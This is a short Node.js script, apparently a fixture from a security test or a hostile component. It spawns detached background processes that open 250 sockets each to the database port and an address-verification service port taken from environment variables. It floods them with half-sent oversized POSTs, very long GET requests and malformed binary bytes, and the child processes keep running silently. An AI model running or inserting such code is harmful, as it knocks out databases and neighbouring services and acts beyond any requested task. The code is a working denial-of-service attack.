import { spawn } from 'node:child_process';

const flood = `
  const { connect } = require('node:net');
  const half = 'POST /street-address HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 100000000\\r\\n\\r\\n' + 'x'.repeat(1e5);
  const whole = 'GET /street-address?street=' + 'a'.repeat(8000) + ' HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n';
  const [port, kind] = process.argv.slice(1);
  for (let count = 0; count < 250; count += 1) {
    const socket = connect(port, '127.0.0.1', () => {
      socket.write(kind === 'database' ? Buffer.from([0, 0, 255, 255, 0, 3, 0, 0]) : count % 2 ? half : whole.repeat(20));
    });
    socket.on('error', () => 0).resume();
  }
  setInterval(() => 0, 1e6);`;
const ports = {
  database: new URL(process.env.DATABASE_URL).port,
  neighbour: new URL(process.env.ADDRESS_VERIFICATION_URL ?? 'http://127.0.0.1:9').port,
};
for (const [kind, port] of Object.entries(ports))
  spawn(process.execPath, ['-e', flood, port, kind, 'hostile-mark'], { stdio: 'ignore' }).unref();
